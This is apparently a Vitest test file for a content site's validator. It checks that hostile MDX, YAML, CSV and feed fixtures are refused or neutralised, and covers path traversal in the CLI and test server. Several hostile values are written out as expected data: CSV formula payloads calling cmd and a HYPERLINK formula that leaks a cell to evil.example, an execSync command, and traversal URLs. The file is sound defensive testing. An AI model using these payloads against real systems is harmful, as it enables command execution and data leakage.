/**
 * Content as untrusted input (issue 14): every hostile fixture under tests/fixtures/hostile/ is either refused by
 * the validator with its file, line, column, field and fix, or shown harmless in the output by a real parser. The
 * refused bodies are also refused by the build's own MDX processor (Astro's Sätteri with the safe-body plugin), which
 * does not depend on the validator having run. Also: the CLI, search and test-server attacks.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { load } from 'cheerio';
import { SaxesParser } from 'saxes';
import { afterAll, describe, expect, test, vi } from 'vitest';
import { buildRecord } from '../../src/lib/record';
import { entriesCsv, quotesCsv } from '../../src/lib/reuse/exports';
import { rssFeed, siteFeedSpec } from '../../src/lib/reuse/feeds';
import { bodyProcessor } from '../../src/lib/untrusted/body';
import { formatReport, validateContent, type Problem } from '../../src/lib/validate';
import { parseQuery, MAX_QUERY_LENGTH } from '../../src/lib/search/query';
import { createSearchEngine } from '../../src/lib/search/engine';
import { buildSearchRecords } from '../../src/lib/search/records';
import { serveStatic } from '../../scripts/lib-static-server';
import { HOSTILE, hostileContent, hostileFixtures } from '../helpers/hostile';

vi.setConfig({ testTimeout: 120_000 });

const made: string[] = [];
afterAll(() => made.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));
function content(...attacks: string[]) {
  const dir = hostileContent(...attacks);
  made.push(dir);
  return dir;
}

/** `file:line:col  field  message` of each problem, the file relative to the content folder. */
function problems(dir: string): string[] {
  const r = validateContent(dir);
  const rel = path.relative(process.cwd(), dir);
  return r.problems.map(
    (p: Problem) =>
      `${p.file.replace(rel + path.sep, '').replace(rel, '.')}:${p.line}:${p.col}  ${p.field}  ${p.message}`,
  );
}

/**
 * What the validator says about each refused fixture: every line of the report, as `file:line:col  field  message`
 * (hints are checked to be present). Harmless fixtures are listed in HARMLESS and checked further below.
 */
const REFUSED: Record<string, string[]> = {
  'actor-body': [
    'actors/hostile-actor-body.mdx:8:1  <script>  the HTML tag <script> is not allowed in a body',
    'actors/hostile-actor-body.mdx:8:31  <Quote>  <Quote> works in entry bodies only',
  ],
  'bidi-override': [
    'entries/2019/hostile-bidi-override.mdx:5:20  (text)  contains the bidirectional control U+202E RIGHT-TO-LEFT OVERRIDE, which can reverse or reorder the text after it on the page',
    'entries/2019/hostile-bidi-override.mdx:21:23  (text)  contains the bidirectional control U+202E RIGHT-TO-LEFT OVERRIDE, which can reverse or reorder the text after it on the page',
  ],
  'body-data-link': ['entries/2019/hostile-body-data-link.mdx:21:6  link  links to "data:" addresses are not allowed'],
  'body-form-offsite': [
    'entries/2019/hostile-body-form-offsite.mdx:21:1  <form>  the HTML tag <form> is not allowed in a body',
  ],
  'body-fragment-set-html': [
    'entries/2019/hostile-body-fragment-set-html.mdx:21:1  <Fragment>  <Fragment> is not allowed in a body: it can inject raw HTML',
  ],
  'body-iframe': [
    'entries/2019/hostile-body-iframe.mdx:21:1  <iframe>  the HTML tag <iframe> is not allowed in a body',
  ],
  'body-img-onerror': [
    'entries/2019/hostile-body-img-onerror.mdx:21:12  <img>  the HTML tag <img> is not allowed in a body',
  ],
  'body-javascript-link-jsx': [
    'entries/2019/hostile-body-javascript-link-jsx.mdx:21:6  <a>  the HTML tag <a> is not allowed in a body',
  ],
  'body-javascript-link-markdown': [
    'entries/2019/hostile-body-javascript-link-markdown.mdx:21:6  link  links to "javascript:" addresses are not allowed',
    'entries/2019/hostile-body-javascript-link-markdown.mdx:21:58  link  links to "javascript:" addresses are not allowed',
  ],
  'body-meta-refresh': [
    'entries/2019/hostile-body-meta-refresh.mdx:21:1  <meta>  the HTML tag <meta> is not allowed in a body',
  ],
  'body-offsite-image': [
    'entries/2019/hostile-body-offsite-image.mdx:21:19  image  the image "https://evil.example/pixel.png" is not a file on this site: pages load nothing from other sites',
  ],
  'body-offsite-stylesheet': [
    'entries/2019/hostile-body-offsite-stylesheet.mdx:21:1  <link>  the HTML tag <link> is not allowed in a body',
  ],
  'body-script': [
    'entries/2019/hostile-body-script.mdx:21:1  <script>  the HTML tag <script> is not allowed in a body',
  ],
  'body-spread-and-expression-attribute': [
    'entries/2019/hostile-body-spread-and-expression-attribute.mdx:21:5  <Actor>  <Actor> takes no {…spread} attributes',
    'entries/2019/hostile-body-spread-and-expression-attribute.mdx:21:30  <Cite>  <Cite> source={…} must be a literal value, not an expression',
  ],
  'body-svg-onload': [
    'entries/2019/hostile-body-svg-onload.mdx:21:1  <svg>  the HTML tag <svg> is not allowed in a body',
  ],
  'cache-poison': [
    'entries/2019/hostile-cache-poison.mdx:21:1  import  import and export are not allowed in a body: a body cannot run code',
    "entries/2019/hostile-cache-poison.mdx:23:1  {…}  the expression {fs.writeFileSync('node_modules/.astro…} is not allowed in a body: a body cannot run code",
  ],
  'date-octal': [
    'entries/2019/hostile-date-octal.mdx:4:7  date  "-0500" is before year 1, which the record does not use',
  ],
  'empty-folder': ['.:1:1  (folder)  the content folder has no entries, so the site would be empty'],
  'feed-control-characters': [
    'entries/2019/hostile-feed-control-characters.mdx:2:8  title  contains the control character U+0007 BELL, which breaks the feeds and exports',
    'entries/2019/hostile-feed-control-characters.mdx:2:8  title  contains the control character U+0001, which breaks the feeds and exports',
    'entries/2019/hostile-feed-control-characters.mdx:5:10  summary  contains U+FFFE, a noncharacter that XML and the feeds cannot carry',
    'entries/2019/hostile-feed-control-characters.mdx:5:10  summary  contains a lone surrogate (U+D800), which is not a character',
  ],
  'lookalike-actor': [
    'actors/william-barr-2.mdx:2:7  name  "William P. Bаrr" mixes scripts in the word "Bаrr" (U+0430 is Cyrillic)',
    'actors/william-barr-2.mdx:2:7  name  "William P. Bаrr" looks the same as "William P. Barr" (actor william-barr) but is spelled with different characters',
  ],
  'mdx-exec': [
    'entries/2019/hostile-mdx-exec.mdx:21:1  import  import and export are not allowed in a body: a body cannot run code',
    "entries/2019/hostile-mdx-exec.mdx:23:1  {…}  the expression {execSync('touch /tmp/pwned-by-mdx').t…} is not allowed in a body: a body cannot run code",
  ],
  'mdx-import-readfile': [
    'entries/2019/hostile-mdx-import-readfile.mdx:21:1  import  import and export are not allowed in a body: a body cannot run code',
    'entries/2019/hostile-mdx-import-readfile.mdx:24:20  {…}  the expression {h} is not allowed in a body: a body cannot run code',
  ],
  'mdx-syntax-html-comment': [
    'entries/2019/hostile-mdx-syntax-html-comment.mdx:23:1  (mdx)  MDX syntax error: Unexpected character `!` (U+0021) before name, expected a character that can start a name, such as a letter, `$`, or `_`',
  ],
  'mdx-syntax-less-than': [
    'entries/2019/hostile-mdx-syntax-less-than.mdx:21:12  (mdx)  MDX syntax error: Unexpected character after `<`, expected a valid JSX tag',
  ],
  'mdx-syntax-stray-brace': [
    'entries/2019/hostile-mdx-syntax-stray-brace.mdx:21:7  (mdx)  MDX syntax error: Unexpected end of file in expression, expected a corresponding closing brace for `{`',
  ],
  'mdx-unknown-component': [
    'entries/2019/hostile-mdx-unknown-component.mdx:21:4  <Tweet>  <Tweet> is not a component a body can use',
  ],
  oversized: ['entries/2019/hostile-oversized.mdx:1:1  (file)  is 285 KB, over the limit of 256 KB per content file'],
  symlink: [
    'entries/2019/hostile-symlink.mdx:1:1  (file)  is a symbolic link (to /etc/hostname); links are not read, since they could publish a file from outside the record',
    'entries/linked-folder:1:1  (file)  is a symbolic link (to ../../../valid/entries); links are not read, since they could publish a file from outside the record',
  ],
  'utf-16': ['entries/2019/hostile-utf-16.mdx:1:1  (encoding)  is UTF-16 text; content files must be UTF-8'],
  'windows-1252': [
    'entries/2019/hostile-windows-1252.mdx:5:29  (encoding)  is not valid UTF-8: byte 0x93 here looks like Windows-1252 (a curly quote or dash)',
  ],
  'yaml-alias-bomb': [
    'entries/2019/hostile-yaml-alias-bomb.mdx:2:5  (yaml)  the anchor &a0 is not allowed: YAML anchors and aliases are not used in the record',
    'entries/2019/hostile-yaml-alias-bomb.mdx:3:5  (yaml)  the anchor &a1 is not allowed: YAML anchors and aliases are not used in the record',
    'entries/2019/hostile-yaml-alias-bomb.mdx:3:10  (yaml)  the alias *a0 repeats another value; YAML anchors and aliases are not allowed',
  ],
  'zero-width-in-word': [
    'entries/2019/hostile-zero-width-in-word.mdx:19:32  (text)  has the invisible U+200D ZERO WIDTH JOINER inside the word "encryption", so the word cannot be found by search',
    'entries/2019/hostile-zero-width-in-word.mdx:26:18  (text)  has the invisible U+200D ZERO WIDTH JOINER inside the word "encryption", so the word cannot be found by search',
  ],
};

/** Fixtures the validator accepts; each is shown harmless in the output below. */
const HARMLESS = ['csv-formula', 'feed-cdata-title', 'feed-html-description', 'quote-in-code-or-comment', 'utf-8-bom'];

test('every fixture under tests/fixtures/hostile/ is either refused or shown harmless here', () => {
  expect([...Object.keys(REFUSED), ...HARMLESS].sort()).toEqual(hostileFixtures());
});

describe('refused by the validator, with file:line:col, what, and how to fix it', () => {
  test.each(Object.keys(REFUSED))('%s', (attack) => {
    const dir = content(attack);
    const started = Date.now();
    const got = problems(dir);
    expect(Date.now() - started, 'validated in seconds, not minutes').toBeLessThan(30_000);
    // The listed problems first, in order (the alias bomb lists more anchors and aliases after these).
    expect(got.slice(0, REFUSED[attack]!.length)).toEqual(REFUSED[attack]);
    if (attack !== 'yaml-alias-bomb') expect(got).toHaveLength(REFUSED[attack]!.length);
    // Every problem has a hint, and the report is one line per problem.
    const r = validateContent(dir);
    for (const p of r.problems) expect(p.hint, `${p.field} ${p.message}`).toBeTruthy();
    expect(formatReport(r.problems, r.fileCount)).toMatch(/✗ \d+ problems? in \d+ files?/);
  });

  test('a missing content folder (a typo in the path) is an error too', () => {
    const r = validateContent(path.join(os.tmpdir(), 'ept-no-such-folder'));
    expect(r.problems.map((p) => p.message)).toEqual(['the content folder does not exist']);
  });

  test('all problems of all files at once', () => {
    const dir = content('body-script', 'bidi-override', 'lookalike-actor', 'utf-16', 'date-octal');
    const files = new Set(validateContent(dir).problems.map((p) => path.basename(p.file)));
    expect([...files].sort()).toEqual([
      'hostile-bidi-override.mdx',
      'hostile-body-script.mdx',
      'hostile-date-octal.mdx',
      'hostile-utf-16.mdx',
      'william-barr-2.mdx',
    ]);
  });
});

describe('refused by the build’s own MDX processor, whether or not the validator ran', () => {
  const bodies = Object.keys(REFUSED).filter((a) => /^(body-|mdx-|cache-poison)/.test(a));
  let renderer: { process: (content: string, file: string, frontmatter: object) => Promise<{ code: string }> };
  const compile = async (file: string) => {
    renderer ??= (await bodyProcessor().createMdxRenderer!(
      { syntaxHighlight: false, shikiConfig: {}, gfm: true, smartypants: true } as never,
      { optimize: false, srcDir: new URL(`file://${process.cwd()}/src/`), sourcemap: false },
    )) as typeof renderer;
    // What @astrojs/mdx hands the processor: the file with its frontmatter blanked, lines kept.
    const text = fs.readFileSync(file, 'utf8').replace(/^---\n[\s\S]*?\n---\n/, (fm) => fm.replace(/[^\n]/g, ' '));
    return renderer.process(text, file, {});
  };

  test.each(bodies)('%s', async (attack) => {
    const dir = path.join(HOSTILE, attack, 'entries', '2019');
    const file = path.join(dir, fs.readdirSync(dir)[0]!);
    const error = await compile(file).then(
      () => undefined,
      (e: Error) => e,
    );
    expect(error, 'compiled without complaint').toBeInstanceOf(Error);
    // The same positions as the validator's (file lines: the frontmatter was blanked, not removed).
    const first = REFUSED[attack]![0]!.split('  ')[0]!.split(':').slice(1).join(':');
    expect(error!.message).toMatch(new RegExp(`(^|:)${first}\\b`));
  });

  test('a valid body compiles', async () => {
    const { code } = await compile(path.resolve('tests/fixtures/valid/entries/2019/fixture-open-letter.mdx'));
    expect(code).toContain('MDXContent');
  });
});

describe('accepted, and harmless in the output (read back by real parsers)', () => {
  const recordOf = (dir: string) => {
    const r = validateContent(dir);
    expect(r.problems).toEqual([]);
    return buildRecord(r.entries, r.actors);
  };
  /** A strict, conforming XML parser: throws on anything ill-formed. Returns the text of every element by name. */
  const parseXml = (xml: string) => {
    const parser = new SaxesParser({ xmlns: false });
    const texts: Array<{ name: string; text: string }> = [];
    const stack: Array<{ name: string; text: string }> = [];
    parser.on('error', (e) => {
      throw e;
    });
    parser.on('opentag', (t) => stack.push({ name: t.name, text: '' }));
    parser.on('text', (t) => stack.length && (stack[stack.length - 1]!.text += t));
    parser.on('cdata', (t) => stack.length && (stack[stack.length - 1]!.text += t));
    parser.on('closetag', () => texts.push(stack.pop()!));
    parser.write(xml).close();
    return texts;
  };

  test('feed-cdata-title: every "]]>" stays text; the RSS is well-formed and injects no <link>', () => {
    const record = recordOf(content('feed-cdata-title'));
    const entry = record.entries.find((e) => e.slug === 'hostile-feed-cdata-title')!;
    const xml = rssFeed(siteFeedSpec(record.entries), 'https://tracker.example/');
    expect(xml).not.toContain('<![CDATA[');
    const els = parseXml(xml);
    expect(els.filter((e) => e.name === 'title').map((e) => e.text)).toContain(entry.data.title);
    expect(els.filter((e) => e.name === 'link').map((e) => e.text)).not.toContain('https://evil.example/');
    expect(entry.data.title).toContain(']]>');
  });

  test('feed-html-description: <description> is escaped text; a reader rendering it as HTML shows the text', () => {
    const record = recordOf(content('feed-html-description'));
    const entry = record.entries.find((e) => e.slug === 'hostile-feed-html-description')!;
    const xml = rssFeed(siteFeedSpec(record.entries), 'https://tracker.example/');
    const items = parseXml(xml).filter((e) => e.name === 'description');
    const description = items.find((d) => d.text.includes('onerror'))!.text;
    // What a feed reader does: parse the description as HTML. No element comes out, only the summary as text.
    const $ = load(`<div id="d">${description}</div>`);
    expect($('#d *').length).toBe(0);
    expect($('#d').text()).toBe(entry.data.summary);
  });

  test('csv-formula: every cell that would start a formula starts with an apostrophe (read by csv-parse)', () => {
    const record = recordOf(content('csv-formula'));
    const site = 'https://tracker.example/';
    for (const csv of [entriesCsv(record, site), quotesCsv(record, site)]) {
      const rows = parseCsv(csv, { bom: true });
      for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const quotes = parseCsv<Record<string, string>>(quotesCsv(record, site), { columns: true });
    expect(quotes.filter((q) => q['entry'] === 'hostile-csv-formula').map((q) => q['text'])).toEqual([
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'-2+3+cmd|' /C calc'!A0",
      "'=1+1", // the schema trims text; a cell starting with a tab is neutralised too (property test)
    ]);
    const entries = parseCsv<Record<string, string>>(entriesCsv(record, site), { columns: true });
    const row = entries.find((e) => e['slug'] === 'hostile-csv-formula')!;
    expect(row['title']).toBe('\'=HYPERLINK("https://evil.example/?"&A1, "Click")');
    expect(row['summary']!.startsWith("'+1+cmd")).toBe(true);
  });

  test('quote-in-code-or-comment: a component in code or in an MDX comment is text, not a reference', () => {
    expect(problems(content('quote-in-code-or-comment'))).toEqual([]);
  });

  test('utf-8-bom: a byte-order mark is accepted and does not hide the frontmatter', () => {
    const record = recordOf(content('utf-8-bom'));
    expect(record.entries.find((e) => e.slug === 'hostile-utf-8-bom')!.data.title).toBe('Hostile: utf-8-bom');
  });
});

describe('npm run new keeps every path inside content/', () => {
  const run = (dir: string, ...args: string[]) =>
    spawnSync('node_modules/.bin/tsx', ['scripts/new.ts', ...args], {
      env: { ...process.env, TRACKER_CONTENT_DIR: dir },
      encoding: 'utf8',
    });

  test('a --slug with a path in it is refused, and nothing is written anywhere', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'ept-new-escape-'));
    made.push(parent);
    const dir = path.join(parent, 'content');
    fs.cpSync('tests/fixtures/valid', dir, { recursive: true });
    for (const slug of ['/../../x', '../x', '..', 'a/b', 'A B', '.hidden']) {
      const r = run(dir, 'entry', 'Title', '--slug', slug);
      expect(r.status, slug).toBe(1);
      expect(r.stderr).toContain('an id is lowercase letters, digits and single hyphens');
    }
    expect(fs.readdirSync(parent)).toEqual(['content']);
  });

  test('a title that starts with a hyphen is a title, not an unknown option', () => {
    const dir = content();
    const r = run(dir, 'entry', '-Dash: a title', '--date', '2019-07');
    expect(r.status, r.stderr).toBe(0);
    expect(fs.existsSync(path.join(dir, 'entries', '2019', 'dash-a-title.mdx'))).toBe(true);
  });
});

describe('search queries', () => {
  test('are read up to 200 characters, and a repeated word counts once', () => {
    const q = parseQuery('encryption '.repeat(10_000) + 'barr');
    expect(q.raw.length).toBeLessThanOrEqual(MAX_QUERY_LENGTH);
    expect(q.terms).toEqual(['encryption']);
    expect(q.notes.map((n) => n.message)).toContain('Only the first 200 characters of the query were searched.');
    expect(parseQuery('barr warrant barr').terms).toEqual(['warrant', 'barr']);
    expect(parseQuery('kind:letter kind:letter "a b" "a b"').kinds).toEqual([['letter']]);
    expect(parseQuery('"warrant proof" "Warrant  proof"').phrases).toHaveLength(1);
  });

  test('the engine (what the worker runs) reads only the first 200 characters of a 100 000-character query', () => {
    const r = validateContent('tests/fixtures/valid');
    const engine = createSearchEngine(buildSearchRecords(buildRecord(r.entries, r.actors)));
    const res = engine.search('barr '.repeat(20_000));
    expect(res.notes.map((n) => n.message)).toContain('Only the first 200 characters of the query were searched.');
    expect(res.groups.flatMap((g) => g.results).length).toBeGreaterThan(0);
  });
});

describe('the test static server', () => {
  test('answers a malformed escape with 400 and stays up; never serves a sibling folder', async () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'ept-serve-'));
    made.push(parent);
    fs.mkdirSync(path.join(parent, 'site'));
    fs.writeFileSync(path.join(parent, 'site', 'index.html'), 'home');
    fs.mkdirSync(path.join(parent, 'site-secret'));
    fs.writeFileSync(path.join(parent, 'site-secret', 'index.html'), 'secret');
    fs.symlinkSync('/etc/hostname', path.join(parent, 'site', 'host.txt'));
    const server = await serveStatic(path.join(parent, 'site'), 0);
    const port = (server.address() as { port: number }).port;
    const get = (p: string) =>
      new Promise<{ status: number; body: string }>((resolve, reject) =>
        http
          .get({ host: '127.0.0.1', port, path: p }, (res) => {
            let body = '';
            res.on('data', (c) => (body += c));
            res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
          })
          .on('error', reject),
      );
    try {
      expect((await get('/%E0%A4%A')).status).toBe(400);
      for (const p of ['/..%2fsite-secret/', '/..%2Fsite-secret/index.html', '/%2e%2e/site-secret/'])
        expect((await get(p)).body, p).not.toContain('secret');
      expect((await get('/host.txt')).status).toBe(403);
      expect(await get('/')).toEqual({ status: 200, body: 'home' });
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});
